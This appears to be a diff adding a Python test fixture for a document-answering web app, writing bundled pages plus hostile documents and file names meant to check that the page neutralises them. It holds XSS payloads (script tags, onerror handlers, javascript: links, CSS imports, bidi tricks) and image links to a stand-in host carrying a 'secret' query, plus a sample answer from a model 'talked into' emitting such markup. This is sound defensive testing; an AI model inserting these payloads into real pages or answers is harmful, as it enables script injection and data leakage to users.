@@ -1,0 +1,101 @@
+"""The documents that the served collections hold: some of the bundled pages, and what an attacker would write."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+ROOT = Path(__file__).parents[2]
+ELSEWHERE = "http://elsewhere.example"  # any request to it is a failure; the name resolves nowhere
+
+PAGES = (
+    "en/ivfflat.md",
+    "en/answers-and-citations.md",
+    "en/windows-and-pooling.md",
+    "zh/chunking.md",
+    "zh/ivfflat.md",
+)
+
+# Each is what a browser would run, load or follow if the page let it. All set window.attacked where they run.
+SCRIPT = "<script>window.attacked = true</script>"
+IMAGE = f'<img src="{ELSEWHERE}/pixel.png" onerror="window.attacked = true">'
+FRAME = f'<iframe src="{ELSEWHERE}/frame"></iframe><svg onload="window.attacked = true"></svg>'
+LINK = "[open the keeper's log](javascript:window.attacked=true)"
+PICTURE = f"![a map of the harbour]({ELSEWHERE}/map.png?q=secret)"
+REFERENCE = (
+    f"![the mole][mole] and [the quay][quay]\n\n[mole]: {ELSEWHERE}/mole.png\n[quay]: {ELSEWHERE}/quay"
+)
+AUTOLINK = (
+    f"<{ELSEWHERE}/auto> and {ELSEWHERE}/bare and <a href='{ELSEWHERE}/a' ping='{ELSEWHERE}/p'>here</a>"
+)
+BIDI = "The \u202eretnirp\u202c is not what it seems."
+STYLE = f'<style>@import "{ELSEWHERE}/s.css"; body {{ display: none }}</style><base href="{ELSEWHERE}/">'
+
+HARBOUR = f"""# Harbour {IMAGE} {SCRIPT}
+
+The harbour lantern is lit at dusk by the keeper {SCRIPT} {IMAGE} with whale oil.
+
+The harbour lantern is cleaned every Monday, see {LINK} and {PICTURE}.
+
+{REFERENCE}
+
+{AUTOLINK}
+
+{FRAME}
+
+{STYLE}
+
+{BIDI}
+"""
+
+# A model that was talked into it writes the same into its answer.
+HOSTILE_ANSWER = f"""The lantern is lit at dusk by the keeper with whale oil [1]. {SCRIPT} {IMAGE}
+
+{LINK} {PICTURE}
+
+{REFERENCE}
+
+{AUTOLINK}
+
+{FRAME}
+
+{STYLE}
+
+<button data-testid="citation-marker" onclick="window.attacked = true">1</button>
+
+{BIDI} [99]
+"""
+
+HOSTILE_NAME = "<img src=x onerror=window.attacked=true>.md"
+BIDI_NAME = "report \u202egnp.md"
+
+FAILED = {  # file name → reason code
+    "broken.pdf": "parse_failed",
+    "empty.md": "empty",
+    "program.bin": "unsupported_type",
+}
+
+
+def write_bundled(folder: Path) -> None:
+    """A few pages of the bundled corpus, in the same layout."""
+    for name in PAGES:
+        target = folder / name
+        target.parent.mkdir(parents=True, exist_ok=True)
+        shutil.copyfile(ROOT / "corpus" / name, target)
+
+
+def write_hostile(folder: Path) -> None:
+    """Documents and file names that attack the page, and files that can't be read."""
+    folder.mkdir()
+    (folder / HOSTILE_NAME).write_text(HARBOUR)
+    (folder / BIDI_NAME).write_text(
+        f"# Tide \u202etable\n\nThe tide table hangs in the ferry office. {BIDI}\n"
+    )
+    (folder / "page.html").write_text(
+        f"<html><head><title>{SCRIPT.replace('<', '&lt;')} Pilots</title></head><body><h1>Pilots</h1>"
+        f"<p>The pilots of the estuary sleep aboard the cutter {IMAGE} &lt;script&gt;window.attacked=true"
+        "&lt;/script&gt; in winter.</p></body></html>"
+    )
+    (folder / "broken.pdf").write_bytes(b"%PDF-1.7\nnothing that follows is a PDF")
+    (folder / "empty.md").write_bytes(b"")
+    (folder / "program.bin").write_bytes(bytes(range(256)))
